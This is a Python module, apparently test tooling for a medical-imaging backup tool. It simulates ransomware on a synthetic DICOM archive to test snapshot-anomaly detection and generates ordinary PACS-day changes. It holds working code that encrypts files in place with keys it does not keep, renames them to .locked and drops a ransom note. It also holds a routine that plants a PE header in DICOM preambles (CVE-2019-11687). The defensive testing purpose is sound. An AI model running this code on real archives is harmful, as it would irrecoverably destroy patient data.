"""An attack simulator and generated normal PACS days: the suspect-snapshot tests, the false-positive
measurement (docs/incident.md) and the demo's incident step. Development tooling: it encrypts files in place,
so it only ever runs on a synthetic archive it is pointed at."""

from __future__ import annotations

import os
import random
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import pydicom
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from backupctl.dicom.synth import ArchiveSpec, write_archive

RANSOM_NOTE = "HOW_TO_DECRYPT_FILES.txt"


@dataclass
class Attack:
    encrypted: list[Path] = field(default_factory=list)
    renamed: list[Path] = field(default_factory=list)     # new names
    note: Path | None = None


def dicom_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*.dcm") if p.is_file())


def _encrypt_in_place(path: Path, rng: random.Random) -> None:
    """AES-256-CTR with a random key: same size, every byte replaced, as most ransomware does."""
    key, nonce = rng.randbytes(32), rng.randbytes(16)
    data = path.read_bytes()
    enc = Cipher(algorithms.AES(key), modes.CTR(nonce)).encryptor()
    path.write_bytes(enc.update(data) + enc.finalize())


def attack(root: Path, share: float = 0.3, rename_share: float = 0.3, seed: int = 7) -> Attack:
    """Encrypt `share` of the archive's DICOM files in place, rename `rename_share` of those to `.dcm.locked`,
    and drop a ransom note at the top."""
    rng = random.Random(seed)
    files = dicom_files(root)
    victims = rng.sample(files, max(1, round(len(files) * share)))
    done = Attack()
    for path in victims:
        _encrypt_in_place(path, rng)
        done.encrypted.append(path)
    for path in victims[: round(len(victims) * rename_share)]:
        locked = path.with_name(path.name + ".locked")
        os.rename(path, locked)
        done.renamed.append(locked)
    done.note = root / RANSOM_NOTE
    done.note.write_text("Your files are encrypted. To decrypt them, pay ...\n")
    return done


def plant_polyglot(path: Path) -> None:
    """Put a PE header in the 128-byte preamble of a DICOM file (CVE-2019-11687); it stays valid DICOM."""
    data = bytearray(path.read_bytes())
    data[:64] = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48)
    path.write_bytes(bytes(data))


def header_correction(path: Path, rng: random.Random) -> None:
    """What a PACS does to fix a misspelt name or description: the header changes, the pixel data does not."""
    ds = pydicom.dcmread(path)
    ds.StudyDescription = f"{ds.get('StudyDescription', '')} (corrected {rng.randint(1, 999)})"
    ds.PatientName = f"Corrected^Name{rng.randint(1, 99)}"
    ds.save_as(path, enforce_file_format=True)


def normal_day(root: Path, day: int, seed: int = 0, new_studies: int = 2, deleted_studies: int = 1,
               corrections: int = 2) -> dict[str, int]:
    """A PACS day: new studies arrive, an old study or two is deleted (retention, a duplicate), a few headers
    are corrected."""
    rng = random.Random(seed * 1000 + day)
    incoming = root / f"incoming-{day:03d}"
    spec = ArchiveSpec(patients=new_studies, studies_per_patient=1, series_per_study=rng.randint(1, 2),
                       instances_per_series=rng.randint(2, 5), rows=32, columns=32, seed=seed * 1000 + day + 17)
    write_archive(incoming, spec)
    studies = sorted({p.parent.parent for p in dicom_files(root) if not p.is_relative_to(incoming)})
    deleted = rng.sample(studies, min(deleted_studies, max(0, len(studies) - 1)))
    for study in deleted:
        shutil.rmtree(study)
    files = [p for p in dicom_files(root) if not p.is_relative_to(incoming)]
    fixed = rng.sample(files, min(corrections, len(files)))
    for path in fixed:
        header_correction(path, rng)
    return {"new_studies": new_studies, "deleted_studies": len(deleted), "corrections": len(fixed)}
